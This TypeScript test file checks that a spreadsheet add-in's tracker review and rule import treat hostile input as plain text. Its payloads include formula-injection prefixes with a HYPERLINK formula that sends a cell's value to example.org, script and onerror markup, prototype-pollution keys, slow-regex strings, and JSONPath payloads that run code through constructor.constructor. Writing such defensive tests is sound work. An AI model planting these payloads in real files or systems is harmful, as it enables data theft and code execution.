/** Nothing runs: no text, rule, setting, sheet name or heading becomes code, markup, a formula or a path. */
import assert from "node:assert/strict";
import { openBook, saveBook } from "../../src/host/file/file";
import { openFile } from "../../src/host/file/disk";
import { importRulesText } from "../../src/core/rules/exchange";
import { h } from "../../src/addin/taskpane/dom/h";
import { TRACKER, writeWorkbook } from "../builders/workbook";
import { partsOf } from "../host/file/fixtures";
import { assertSame, openDesk, openDeskOn, UNWATCHED, type OpenDesk } from "../addin/desk";
import { hers } from "./print";

/** What a spreadsheet may take for a formula (OWASP, "CSV injection"), full-width forms included. */
const STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'="];
const CALL = `HYPERLINK("http://example.org/?"&A1,"open")`;
const MARKUP = `<img src=x onerror="alert(1)"><script>alert(2)</script>`;
const NAMES = ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf"];
/** Text that catastrophic patterns, and readers of bidirectional or combining text, trip over. */
const HARD = [
  "a".repeat(20_000) + "!",
  "1".repeat(20_000),
  "1 ".repeat(10_000),
  "31 ".repeat(5_000) + "x",
  "by by ".repeat(5_000),
  "2017/".repeat(5_000),
  "(".repeat(10_000),
  " ".repeat(30_000) + "x",
  "\u202e31 March 2018\u202c \u2066x\u2069",
  "3\u200b1\u200d March\ufeff 2018",
  "A" + "\u0301".repeat(10_000),
  "\ud800 lone half",
  "\u0000\u0001\u001f",
];

const formulasOf = ({ host }: OpenDesk): string[] =>
  host.book.sheets.flatMap(({ name, rows }) =>
    rows.flatMap(({ number, cells }) =>
      cells.filter(({ formula }) => formula).map(({ column }) => `${name} ${number},${column}`),
    ),
  );

/** A desk on a tracker whose every field holds the text, each text being put in as the text that it is. */
async function deskWith(text: string): Promise<OpenDesk> {
  const made = openFile(await writeWorkbook());
  const sheet = made.sheets[0]!;
  for (let row = 4; row < 8; row++) {
    for (let column = 1; column < 9; column++) {
      const own = TRACKER[row - 1]?.[column - 1] ?? "";
      sheet.setValue(row, column, column === 5 || column > 6 ? `${own} ${text}` : `${text}${own}`);
    }
  }
  return openDeskOn(openBook(saveBook(made), "hostile.xlsx"));
}

/** Everything that writes: ratings, summary sheets, rules, marks, activity, and the undoing of it. */
async function doAll({ desk }: OpenDesk): Promise<void> {
  const review = await desk.review(UNWATCHED);
  const columns = (["Outcome", "Arrangements", "Overdue", "Reason"] as const).map((fact) => ({
    fact,
    column: "new" as const,
  }));
  await desk.writeRatings(review, columns, UNWATCHED);
  await desk.undo();
  await desk.makeSheets(await desk.review(UNWATCHED), null, UNWATCHED);
  await desk.useRules(review.rules);
  await desk.markFindings(review);
  await desk.writeActivity();
}

describe("nothing in a tracker runs", () => {
  for (const start of STARTS) {
    it(`writes no formula for text that begins with ${JSON.stringify(start)}`, async () => {
      const open = await deskWith(`${start}${CALL}`);
      await doAll(open);
      assert.deepEqual(formulasOf(open), []);
      const parts = partsOf(saveBook(open.host.book));
      const sheets = Object.entries(parts).filter(([name]) => name.startsWith("xl/worksheets/sheet"));
      for (const [name, xml] of sheets) assert.doesNotMatch(xml, /<f[ >]/, name);
    }).timeout(60_000);
  }

  it("puts text that looks like a formula back as text, and her formulas as formulas", async () => {
    const open = await openDesk();
    const sheet = open.host.book.sheets[0]!;
    sheet.setValue(4, 7, `=${CALL}`);
    sheet.setValue(5, 7, "01.05");
    sheet.setFormula(6, 7, "UPPER(A6)", "3");
    const before = formulasOf(open);
    const review = await open.desk.review(UNWATCHED);
    await open.desk.writeRatings(review, [{ fact: "Outcome", column: 7 }], UNWATCHED);
    await open.desk.undo();
    assert.deepEqual(formulasOf(open), before);
    assert.deepEqual(
      [4, 5].map((row) => sheet.value(row, 7)),
      [`=${CALL}`, "01.05"],
    );
  });

  it("keeps markup as text, in the sheets and in the pane", async () => {
    const open = await deskWith(MARKUP);
    await doAll(open);
    for (const xml of Object.values(partsOf(saveBook(open.host.book)))) assert.doesNotMatch(xml, /<img|<script/);
    assert.deepEqual(h("p", null, MARKUP).children, [MARKUP]);
  }).timeout(60_000);

  for (const name of NAMES) {
    it(`takes ${name} as a heading, a sheet's name, a status, an owner and a setting for a word like any other`, async () => {
      const rows = TRACKER.map((cells, at) =>
        at === 2
          ? [...cells.slice(0, 3), name, ...cells.slice(4)]
          : at > 2
            ? cells.map((c, i) => (i === 3 || i === 1 ? name : c))
            : cells,
      );
      const open = await openDesk(rows);
      open.host.book.sheets[0]!.name = name;
      const state = await open.desk.loadState();
      const settings = { ...state.settings, committee: name, planTitle: name, wording: { [name]: name }, sheets: null };
      await open.desk.saveState({ ...state, settings });
      const before = hers(open.host);
      const review = await open.desk.review(UNWATCHED);
      assert.equal(review.tracker.actions.length, 4);
      await open.desk.makeSheets(review, null, UNWATCHED);
      assertSame(hers(open.host), before);
      assert.equal(Object.keys(Object.prototype).length, 0);
      assert.equal(({} as Record<string, unknown>)["polluted"], undefined);
    });
  }

  it("reads text that is hard to read in the time of a breath", async () => {
    for (const text of HARD) {
      const open = await deskWith(text);
      const start = Date.now();
      await open.desk.review(UNWATCHED);
      const took = Date.now() - start;
      assert.ok(took < 3000, `${JSON.stringify(text.slice(0, 20))}… took ${took} ms`);
    }
  }).timeout(60_000);
});

describe("nothing in an imported rule runs", () => {
  const PAYLOADS = [
    "$..[?(var _$_root=[].constructor.constructor('globalThis.pwned=1')();@root)]",
    "$[?(this.constructor.constructor('globalThis.pwned=1')())]",
    `$..[?(p="globalThis.pwned=1";a=''[['constructor']][['constructor']](p);a())]`,
  ];
  const rule = (condition: object, extra: object = {}): string =>
    JSON.stringify([
      {
        conditions: { all: [condition] },
        event: { type: "rating", params: { rating: "Red", axis: "Outcome" } },
        ...extra,
      },
    ]);
  for (const path of PAYLOADS) {
    it(`refuses the path ${path.slice(0, 30)}…`, () => {
      const outcome = importRulesText(rule({ fact: "status", operator: "equal", value: "complete", path }));
      assert.ok("refused" in outcome && /\.$/.test(outcome.refused), JSON.stringify(outcome));
      assert.equal((globalThis as Record<string, unknown>)["pwned"], undefined);
    });
  }
  for (const name of NAMES) {
    it(`refuses the fact, the operator and the key ${name}`, () => {
      const attempts = [
        rule({ fact: name, operator: "equal", value: "complete" }),
        rule({ fact: "status", operator: name, value: "complete" }),
        rule({ fact: "status", operator: "equal", value: "complete" }).replace(
          '"conditions"',
          `"${name}":{"polluted":1},"conditions"`,
        ),
        `{"${name}":{"polluted":1}}`,
      ];
      for (const text of attempts) assert.ok("refused" in importRulesText(text), text);
      assert.equal(({} as Record<string, unknown>)["polluted"], undefined);
    });
  }
});
